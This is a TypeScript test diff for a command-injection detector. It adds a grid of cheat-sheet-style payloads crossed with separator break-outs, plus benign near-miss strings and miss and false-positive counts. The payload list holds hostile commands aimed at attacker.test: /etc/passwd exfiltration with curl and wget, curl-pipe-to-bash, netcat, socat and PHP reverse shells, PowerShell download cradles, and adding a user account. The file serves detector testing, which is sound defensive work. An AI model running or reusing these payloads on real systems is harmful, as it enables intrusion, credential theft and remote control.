@@ -125,6 +125,37 @@ export function techniqueGrid(): string[] {
   return [...new Set(out)];
 }
 
+// ---- cheat-sheet bodies (PayloadsAllTheThings-style filter bypasses, reverse shells, Windows one-liners, redirection,
+// PHP/Perl eval break-outs) x break-outs x encodings of the separator (written after the first round-10 fixes)
+const BODIES = [
+  'cat${IFS}/etc/passwd', 'cat$IFS/etc/passwd', 'cat${HOME:0:1}etc${HOME:0:1}passwd', '/???/??t /???/p??s??', "$'\\x69\\x64'",
+  "X=$'cat\\x20/etc/passwd'&&$X", '{cat,/etc/passwd}', 'cat</etc/passwd', 'c\\at /e\\tc/pa\\sswd', "'c'a't' /etc/passwd", '"w"h"o"a"m"i',
+  '$(rev<<<imaohw)', 'echo${IFS}aWQ=|base64${IFS}-d|sh', 'w$()hoami', 'wh``oami', 'i$9d', '$0 -c id', 'sh<<<id', 'bash -c "id"',
+  'id>/tmp/out.txt', 'id>/var/www/html/o.txt', 'uname -a>>/tmp/x', 'curl -d @/etc/passwd attacker.test', 'wget --post-file=/etc/passwd attacker.test',
+  'curl attacker.test/s.sh|bash', 'curl -s attacker.test|sh', 'nc attacker.test 4444 -e /bin/bash', 'ncat attacker.test 4444 -e /bin/sh',
+  'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc attacker.test 4444 >/tmp/f', "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'",
+  "perl -e 'exec \"/bin/sh\"'", "php -r '$s=fsockopen(\"attacker.test\",4444);exec(\"sh <&3 >&3 2>&3\");'", 'socat tcp:attacker.test:4444 exec:sh',
+  'telnet attacker.test 4444', 'xterm -display attacker.test:1', 'ping -c 10 attacker.test', 'dig attacker.test', 'host attacker.test',
+  'sleep${IFS}10', 'timeout 10 sleep 10', 'cat /proc/self/environ', 'printenv', 'set', 'crontab -l', 'sudo -l', 'find / -perm -4000',
+  'ls${IFS}-la${IFS}/', 'whoami|curl -d @- attacker.test', 'echo${IFS}pwned>/tmp/p', 'chmod +x /tmp/s;/tmp/s',
+  '%COMSPEC% /c whoami', "for /f %i in ('whoami') do echo %i", 'echo %USERNAME%', 'set /a 1+1', 'type %WINDIR%\\win.ini',
+  "powershell IEX(New-Object Net.WebClient).DownloadString('http://attacker.test/a')", 'powershell -nop -w hidden -e SQBFAFgA',
+  'certutil -decode a.b64 a.exe', 'bitsadmin /transfer j http://attacker.test/a.exe C:\\a.exe', 'mshta http://attacker.test/a.hta',
+  'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication"', 'wmic process call create calc', 'reg query HKLM\\SAM', 'net user hacker P@ss /add',
+  'start calc', 'ping -n 10 127.0.0.1', 'timeout /t 10', 'dir /s c:\\', 'c:\\windows\\system32\\cmd.exe /c ver',
+];
+const BREAKOUTS: Array<(b: string) => string> = [
+  (b) => `;${b}`, (b) => `|${b}`, (b) => `&&${b}`, (b) => `%0a${b}`, (b) => `%250a${b}`, (b) => `%253b${b}`, (b) => `\`${b}\``, (b) => `$(${b})`,
+  (b) => `';${b};'`, (b) => `";${b};"`, (b) => `');${b};#`, (b) => `");${b} #`, (b) => `x\`${b}\``, (b) => `a@b.test|${b}`, (b) => `file.txt;${b}`,
+  (b) => `1%0d%0a${b}`, (b) => `&${b}&`, (b) => `||${b}||`, (b) => `'|${b}|'`,
+];
+
+export function cheatSheetGrid(): string[] {
+  const out: string[] = [];
+  for (const b of BODIES) for (const f of BREAKOUTS) out.push(f(b));
+  return [...new Set(out)];
+}
+
 // ---- ordinary values of the same shapes
 const WORDS = ['sleep', 'date', 'time', 'type', 'sort', 'find', 'head', 'tail', 'more', 'less', 'cat', 'dog', 'echo', 'touch', 'test',
   'print', 'make', 'kill', 'wait', 'join', 'split', 'name', 'user', 'who', 'which', 'file', 'free', 'top', 'watch', 'yes', 'true', 'set', 'host', 'link'];
@@ -173,6 +204,17 @@ export function benignGrid(): string[] {
   return [...new Set(out)];
 }
 
+// ---- ordinary values next to the round-10 changes (quotes around code spans, commas after a word after & or |, $ and a
+// digit glued to letters, backticks glued to words), written during the fixes
+export const BENIGN_NEAR = [
+  "'`date`'", '"`type`" is required', "Use '`ls`' to list", "the '`sort`' option", '"`npm test`" runs the suite', "'`make`' builds it",
+  'Tom & Jerry, Inc.', 'Q&A, FAQ', 'R&D,Sales,Marketing', 'x|sort,uniq', 'Name|Date,Time|Email', 'Salt & Pepper,Oil', 'Size|Sort,/asc',
+  'Rating|Sort,-price', 'Gross|Net,Tax', 'A|Echo,B', 'AT&T,Verizon,T-Mobile', 'cats|dogs,birds', 'S&P 500|Dir,Notes', 'page=2&sort,asc',
+  'Price $9.99', 'US$5bn deal', 'Save $5off today', 'Q3 $9M revenue', 'a$1b', 'cost $5 ls', 'it costs $9d', 'Pay $2k now',
+  'hello`world`', 'x`y`z', 'word`"quoted"`', "it's `date`", 'see `set` and `get`', 'the `start` event', 'Start date; End date', '&&set up',
+  'Ready; start here', 'Duration | Start date | End date', '"`true`" or "`false`"',
+];
+
 function measure(d: Detector, all: string[], wantBlocked: boolean): string[] {
   return all.filter((p) => blocked(d, p) !== wantBlocked);
 }
@@ -202,6 +244,19 @@ describe('cmdi sweeps (generated, round 10)', () => {
     const m = measure(d1, all, true);
     expect(m.length, `missed:\n${m.map((p) => JSON.stringify(p)).join('\n')}`).toBeLessThanOrEqual(MISSES.technique);
   });
+  it('cheat-sheet bodies x break-outs', () => {
+    const all = cheatSheetGrid();
+    expect(all.length).toBe(COUNTS.cheat);
+    const m = measure(d1, all, true);
+    expect(m.length, `missed:\n${m.map((p) => JSON.stringify(p)).join('\n')}`).toBeLessThanOrEqual(MISSES.cheat);
+  });
+  it('ordinary values next to the round-10 changes', () => {
+    expect(BENIGN_NEAR.length).toBe(COUNTS.near);
+    const f1 = measure(d1, BENIGN_NEAR, false);
+    expect(f1.length, `flagged:\n${f1.map((p) => JSON.stringify(p)).join('\n')}`).toBeLessThanOrEqual(BENIGN_FLAGGED.near1);
+    const f2 = measure(d2, BENIGN_NEAR, false);
+    expect(f2.length, `flagged p2:\n${f2.map((p) => JSON.stringify(p)).join('\n')}`).toBeLessThanOrEqual(BENIGN_FLAGGED.near2);
+  });
   it('ordinary values of the same shapes (paranoia 1 and 2)', () => {
     const all = benignGrid();
     expect(all.length).toBe(COUNTS.benign);
@@ -228,8 +283,17 @@ describe('cmdi sweeps (generated, round 10)', () => {
 //   "A|Echo,B" are lists of words.
 // - 27 evasions: a command with no separator at all ("id", "sleep 5", "echo vulnerable", "curl attacker.test/x", "pwd$u"):
 //   the value is a command only where the whole field is run as one; these words alone are ordinary text. Left alone.
+// - cheat-sheet bodies x break-outs (written after the first two fixes): 1,269/1,311 when written (the same on the pre-round
+//   build), 1,289/1,311 now. Fixed: i$9d (a positional parameter is one digit: the rest of the word goes on, 21 payloads) and
+//   x`"w"hoami`, x`$0 -c id`, x`$'\x69\x64'` (a quote, '$' or '\' right after a backtick glued to a word starts the
+//   substitution's word, as a letter did). 22 left: start calc (21: start and a weak word is also "start date", "; start
+//   here"; start calc.exe and start with a strong program are caught), `wh``oami` (a backtick inside backticks closes the
+//   substitution: `wh` and `oami` run, nothing), &&set and `set` (set alone is a field name; set /a 1+1 is caught).
+// - ordinary values next to the round-10 changes (39, written during the fixes): 2/39 at paranoia 1 and 2, on the
+//   pre-round build and now: "Use '`ls`' to list" (a file tool in a span with a quote glued after it, as before the round)
+//   and "`true`" or "`false`" (the no-ops fuzzers send to see whether backticks run).
 // - ordinary values flagged: "Touch; price; coffee", "Make; notes; travel" (touch and make alone opening a list run as
 //   commands); at paranoia 2 also "'cat'", "\"Echo\"", "touch-price", "the `print` field is optional" and the like.
-const COUNTS = { commix: 19200, obf: 2321, windows: 2450, technique: 864, benign: 1020 };
-const MISSES = { commix: 430, obf: 27, windows: 105, technique: 0 };
-const BENIGN_FLAGGED = { p1: 2, p2: 18 };
+const COUNTS = { commix: 19200, obf: 2321, windows: 2450, technique: 864, cheat: 1311, benign: 1020, near: 39 };
+const MISSES = { commix: 430, obf: 27, windows: 105, technique: 0, cheat: 22 };
+const BENIGN_FLAGGED = { p1: 2, p2: 18, near1: 2, near2: 2 };
